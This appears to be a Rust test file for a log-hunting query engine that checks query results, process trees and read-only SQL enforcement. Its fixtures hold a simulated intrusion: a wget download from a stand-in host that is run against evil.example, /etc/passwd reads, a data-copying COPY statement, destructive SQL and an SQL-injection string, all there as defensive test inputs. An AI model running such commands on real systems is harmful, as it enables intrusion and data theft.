//! Questions to a lake: each ready one gives the right rows, what is asked for stays a value, and nothing is written.
#![cfg(feature = "lake")]
#![allow(clippy::unwrap_used, reason = "helpers of tests")]

use std::path::Path;
use std::time::Duration;

use proptest::prelude::*;
use ringleader_engine::collect::{CollectConfig, Quiet};
use ringleader_engine::lake::{
    Answer, Ask, Asked, Bounds, Cell, Column, HuntError, Lake, Noted, Question, TreeConfig, Window, ingest, quoted,
};
use ringleader_engine::sources::Input;
use ringleader_model::Timestamp;
use ringleader_model::time::TimeDefaults;

const BOUNDS: Bounds = Bounds { rows: Some(100), memory: 256 << 20, threads: 2, time: Duration::from_secs(60) };

fn lake(folder: &Path) -> Lake {
    let logs = folder.join("logs");
    std::fs::create_dir(&logs).unwrap();
    let process = |second: u32, host: &str, user: &str, pid: u32, ppid: u32, path: &str, line: &str| {
        serde_json::json!({
            "Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1, "Hostname": host, "User": user,
            "UtcTime": format!("2026-03-01 10:00:{second:02}.000"), "ProcessId": pid, "ParentProcessId": ppid,
            "Image": path, "CommandLine": line,
        })
        .to_string()
            + "\n"
    };
    let processes = [
        process(1, "web1", "root", 100, 1, "/usr/sbin/sshd", "sshd: deploy [priv]"),
        process(2, "web1", "deploy", 101, 100, "/bin/bash", "-bash"),
        process(3, "web1", "deploy", 102, 101, "/usr/bin/wget", "wget http://192.0.2.7/x -O /tmp/.x"),
        process(4, "web1", "deploy", 103, 101, "/tmp/.x", "/tmp/.x -o evil.example:3333"),
        process(5, "web2", "DOM\\deploy", 104, 77, "/usr/bin/wget", "wget http://192.0.2.77/x"),
        process(6, "web2", "o'brien", 105, 104, "/bin/sh", "sh -c 'echo it''s \u{1b}[2J'"),
        process(7, "web10", "root", 106, 1, "/opt/tmp/.x", "rm /tmp/.x"),
    ];
    std::fs::write(logs.join("processes.ndjson"), processes.concat()).unwrap();
    let flows = "time,src_ip,src_port,dst_ip,dst_port,protocol,state
2026-03-01 09:30:00,192.168.0.3,50123,192.168.0.4,445,tcp,ESTABLISHED
2026-03-01 09:31:00,192.168.0.3,50124,192.168.0.4,445,tcp,ESTABLISHED
2026-03-01 07:00:00,192.168.0.9,50124,192.168.0.4,445,tcp,ESTABLISHED
2026-03-01 09:32:00,192.168.0.3,50124,192.168.0.4,4450,tcp,ESTABLISHED
";
    std::fs::write(logs.join("flows.csv"), flows).unwrap();
    let auth = "2026-03-01T10:00:00.5Z web1.example sshd[100]: Accepted publickey for deploy from 203.0.113.40 port 40003 ssh2: RSA SHA256:abc
2026-03-01T10:00:01.5Z web2 sshd[200]: Failed password for root from 203.0.113.40 port 40002 ssh2
";
    std::fs::write(logs.join("auth.log"), auth).unwrap();
    // The same records under another name: twice in the lake, once in an answer.
    std::fs::write(logs.join("again.ndjson"), processes[2].as_str()).unwrap();
    let config = CollectConfig {
        threads: 2,
        memory: 64 << 20,
        format: None,
        host: None,
        tenant: String::new(),
        times: TimeDefaults::default(),
    };
    let path = folder.join("lake");
    let report = ingest(&[Input::Path(logs)], &config, &path, &Quiet).unwrap();
    assert_eq!((report.events, report.rejected), (14, 0));
    Lake::open(&path).unwrap()
}

#[derive(Default)]
struct Rows {
    names: Vec<String>,
    rows: Vec<Vec<String>>,
}

impl Answer for Rows {
    fn columns(&mut self, columns: &[Column]) -> std::io::Result<()> {
        self.names = columns.iter().map(|it| it.name.clone()).collect();
        Ok(())
    }
    fn row(&mut self, cells: &[Cell<'_>]) -> std::io::Result<()> {
        let text = |it: &Cell<'_>| match it {
            Cell::Text(it) => it.clone().into_owned(),
            Cell::Null => String::new(),
            other => format!("{other:?}"),
        };
        self.rows.push(cells.iter().map(text).collect());
        Ok(())
    }
}

impl Rows {
    fn all(&self, column: &str) -> Vec<&str> {
        let at =
            self.names.iter().position(|it| it == column).unwrap_or_else(|| panic!("{column} of {:?}", self.names));
        self.rows.iter().map(|it| it[at].as_str()).collect()
    }
}

fn sql(lake: &Lake, sql: &str, bounds: &Bounds) -> Result<(Rows, Asked), HuntError> {
    let mut rows = Rows::default();
    let asked = lake.ask(sql, None, bounds, &mut rows)?;
    Ok((rows, asked))
}

fn ask_of(lake: &Lake, ask: Ask, host: Option<&str>, window: Window) -> Rows {
    let question = Question { ask, host: host.map(str::to_owned), window };
    sql(lake, &question.sql(false), &BOUNDS).unwrap_or_else(|it| panic!("{it}: {}", question.sql(false))).0
}

fn at(text: &str) -> Option<Timestamp> {
    Timestamp::parse(text, &TimeDefaults::default()).map(|it| it.0)
}

#[test]
fn ready_questions_give_the_right_rows() {
    let folder = tempfile::tempdir().unwrap();
    let lake = lake(folder.path());
    let ask = |ask: Ask| ask_of(&lake, ask, None, Window::default());
    let text = str::to_owned;

    // An address is not the beginning of another, and a record that came twice is one.
    assert_eq!(ask(Ask::Ioc(text("192.0.2.7"))).all("about"), ["wget http://192.0.2.7/x -O /tmp/.x"]);
    assert_eq!(ask(Ask::Ioc(text("http://192.0.2.77/x"))).all("host_uid"), ["web2"]);
    assert_eq!(ask(Ask::Ioc(text("EVIL.example"))).all("pid"), ["Int(103)"]);
    assert_eq!(ask(Ask::Ioc(text("192.168.0.4:445"))).rows.len(), 3);
    assert_eq!(ask(Ask::Ioc(text("203.0.113.40"))).all("activity"), ["logon", "logon_failed"]);

    let ran = ask(Ask::Path(text("/tmp/.x")));
    assert_eq!(ran.all("host_uid"), ["web1", "web1", "web10"]);
    assert_eq!(ran.all("what"), ["named", "ran", "named"]);
    assert_eq!(ask(Ask::Path(text(".x"))).all("what"), ["named", "ran", "ran"]);
    assert_eq!(ask(Ask::Path(text("/usr/*/wget"))).rows.len(), 2);
    assert_eq!(ask_of(&lake, Ask::Path(text("wget")), Some("web2"), Window::default()).rows.len(), 1);

    let hour = Window { since: at("2026-03-01T09:00:00Z"), until: at("2026-03-01T11:00:00Z") };
    let talked = ask_of(&lake, Ask::Port(445), None, hour);
    assert_eq!((talked.all("src_ip"), talked.all("records")), (vec!["192.168.0.3"], vec!["Int(2)"]));
    assert_eq!(ask(Ask::Port(445)).rows.len(), 2);

    let account = ask(Ask::Account(text("Deploy")));
    assert_eq!(account.all("class").iter().filter(|it| **it == "authentication").count(), 1);
    assert_eq!(account.all("host_uid").iter().filter(|it| **it == "web2").count(), 1);
    assert_eq!(account.rows.len(), 5);
    assert_eq!(ask(Ask::Account(text("o'brien"))).all("pid"), ["Int(105)"]);

    // A short name is not the beginning of another.
    let host = ask_of(&lake, Ask::Host, Some("WEB1"), Window::default());
    assert_eq!(host.rows.len(), 5);
    assert!(host.all("host_uid").iter().all(|it| ["web1", "web1.example"].contains(it)));
    assert_eq!(ask_of(&lake, Ask::Host, Some("192.168.0.9"), Window::default()).rows.len(), 1);
}

#[test]
fn a_tree_says_what_was_seen_and_what_was_inferred() {
    let folder = tempfile::tempdir().unwrap();
    let lake = lake(folder.path());
    let config = TreeConfig { host: "web1".to_owned(), ..TreeConfig::default() };
    let tree = lake.tree(&config, &BOUNDS).unwrap();
    assert_eq!(tree.hosts, ["web1", "web1.example"]);
    let seen: Vec<(usize, Option<u32>)> =
        tree.nodes.iter().filter(|it| !it.inferred).map(|it| (it.depth, it.pid)).collect();
    let depth = seen[0].0;
    assert_eq!(seen, [(depth, Some(100)), (depth + 1, Some(101)), (depth + 2, Some(102)), (depth + 2, Some(103))]);
    // Its shell was never logged.
    let other = lake.tree(&TreeConfig { host: "web2".to_owned(), ..TreeConfig::default() }, &BOUNDS).unwrap();
    let wget = other.nodes.iter().find(|it| it.pid == Some(104)).unwrap();
    assert!(wget.parent_status != "observed", "{wget:?}");
    let none = lake.tree(&TreeConfig { host: "nobody".to_owned(), ..TreeConfig::default() }, &BOUNDS).unwrap();
    assert!(none.nodes.is_empty() && none.hosts.is_empty());
    let hostile = TreeConfig { host: "x' OR ''='".to_owned(), ..TreeConfig::default() };
    assert!(lake.tree(&hostile, &BOUNDS).unwrap().nodes.is_empty());
    let about = TreeConfig { about: Some("EVIL".to_owned()), ..config.clone() };
    let pids: Vec<Option<u32>> = lake.tree(&about, &BOUNDS).unwrap().nodes.iter().map(|it| it.pid).collect();
    assert!(pids.contains(&Some(103)) && pids.contains(&Some(101)) && !pids.contains(&Some(102)), "{pids:?}");
}

#[test]
fn only_reading_is_allowed() {
    let folder = tempfile::tempdir().unwrap();
    let lake = lake(folder.path());
    let target = folder.path().join("stolen.csv");
    let copy = format!("COPY (SELECT * FROM events) TO '{}'", target.display());
    let before = lake.version();
    for statement in [
        "DROP TABLE lake",
        "DROP VIEW events",
        "DELETE FROM lake",
        "UPDATE lake SET source = 'x'",
        "INSERT INTO lake SELECT * FROM lake",
        "TRUNCATE TABLE lake",
        "CREATE VIEW x AS SELECT 1",
        "CREATE TABLE x AS SELECT 1",
        "CREATE EXTERNAL TABLE x STORED AS CSV LOCATION '/etc/passwd'",
        "CREATE FUNCTION x() RETURNS INT RETURN 1",
        "SET datafusion.execution.batch_size = 1",
        "PREPARE x AS SELECT 1",
        "BEGIN",
        "SELECT 1; DROP TABLE lake",
        "EXPLAIN ANALYZE INSERT INTO lake SELECT * FROM lake",
        &copy,
        &format!("EXPLAIN ANALYZE {copy}"),
    ] {
        let error = sql(&lake, statement, &BOUNDS).err().unwrap_or_else(|| panic!("{statement}"));
        assert!(matches!(error, HuntError::Refused(_) | HuntError::Unclear(_)), "{statement}: {error}");
    }
    for file in
        ["SELECT * FROM '/etc/passwd'", "SELECT * FROM \"/etc/passwd\"", "SELECT * FROM read_csv('/etc/passwd')"]
    {
        assert!(matches!(sql(&lake, file, &BOUNDS), Err(HuntError::Unclear(_))), "{file}");
    }
    assert!(!target.exists());
    assert_eq!(Lake::open(lake.root()).unwrap().version(), before);
    for question in
        ["SELECT 1", "EXPLAIN SELECT 1", "SHOW TABLES", "DESCRIBE events", "WITH x AS (SELECT 1 AS n) SELECT n FROM x"]
    {
        assert!(!sql(&lake, question, &BOUNDS).unwrap().0.rows.is_empty(), "{question}");
    }
}

#[test]
fn an_answer_is_bounded_and_an_error_says_what_to_do() {
    let folder = tempfile::tempdir().unwrap();
    let lake = lake(folder.path());
    let few = Bounds { rows: Some(3), ..BOUNDS };
    let (rows, asked) = sql(&lake, "SELECT * FROM events", &few).unwrap();
    assert_eq!((rows.rows.len(), asked), (3, Asked { rows: 3, cut: true }));
    assert!(!sql(&lake, "SELECT * FROM events", &BOUNDS).unwrap().1.cut);
    let error = |text: &str, bounds: &Bounds| sql(&lake, text, bounds).err().unwrap();
    assert!(error("SELECT nothing FROM events", &BOUNDS).to_string().contains("--tables"));
    assert!(error("SELEC", &BOUNDS).to_string().contains("--tables"));
    assert!(!error("SELECT nothing FROM events", &BOUNDS).to_string().contains("events.event_id"));
    let short = Bounds { time: Duration::from_millis(300), ..BOUNDS };
    let endless = "SELECT count(*) FROM generate_series(1, 1000000000000)";
    assert!(error(endless, &short).to_string().contains("--timeout"));
    let small = Bounds { memory: 1 << 20, ..BOUNDS };
    let large =
        "SELECT count(*) FROM generate_series(1, 1000000) a JOIN generate_series(1, 1000000) b ON a.value = b.value";
    let error = error(large, &small);
    assert!(matches!(error, HuntError::TooLarge(..)), "{error}");
    // However deep it is nested, it ends.
    let deep = format!("SELECT {}1{}", "(".repeat(20_000), ")".repeat(20_000));
    assert!(sql(&lake, &deep, &BOUNDS).is_err());
}

#[test]
fn the_last_findings_are_remembered_beside_the_table() {
    let folder = tempfile::tempdir().unwrap();
    let lake = lake(folder.path());
    assert_eq!(lake.noted_findings(), None);
    let window = Window { since: at("2026-03-01T09:00:00Z"), until: None };
    let noted = Noted::new(folder.path().join("findings"), lake.version(), &window);
    lake.note_findings(&noted).unwrap();
    assert_eq!(lake.noted_findings(), Some(noted.clone()));
    assert_eq!(noted.window(), window);
    assert_eq!(Lake::open(lake.root()).unwrap().version(), lake.version());
    std::fs::write(lake.root().join("_last_analyze.json"), "{").unwrap();
    assert_eq!(lake.noted_findings(), None);
}

/// One lake for many questions.
fn shared() -> &'static (tempfile::TempDir, Lake) {
    static LAKE: std::sync::OnceLock<(tempfile::TempDir, Lake)> = std::sync::OnceLock::new();
    LAKE.get_or_init(|| {
        let folder = tempfile::tempdir().unwrap();
        let lake = lake(folder.path());
        (folder, lake)
    })
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 24, failure_persistence: None, ..ProptestConfig::default() })]

    /// Whatever is asked for comes back as the same text, and a ready question with it is one that can be asked.
    #[test]
    fn what_is_asked_for_stays_a_value(value in r#"[ -~éß'"\\;\-\n\x00\x1b*%_$(){}\[\]]{0,24}"#, which in 0..5usize) {
        let (_, lake) = shared();
        let (rows, _) = sql(lake, &format!("SELECT {} AS it", quoted(&value)), &BOUNDS).unwrap();
        prop_assert_eq!(rows.all("it"), vec![value.as_str()]);
        let ask = [
            Ask::Ioc(value.clone()),
            Ask::Technique(value.clone()),
            Ask::Path(value.clone()),
            Ask::Account(value.clone()),
            Ask::Host,
        ][which].clone();
        let question = Question { ask, host: Some(value.clone()), window: Window::default() };
        let text = question.sql(false);
        if let Err(error) = sql(lake, &text, &BOUNDS) {
            return Err(TestCaseError::fail(format!("{error}: {text}")));
        }
    }
}
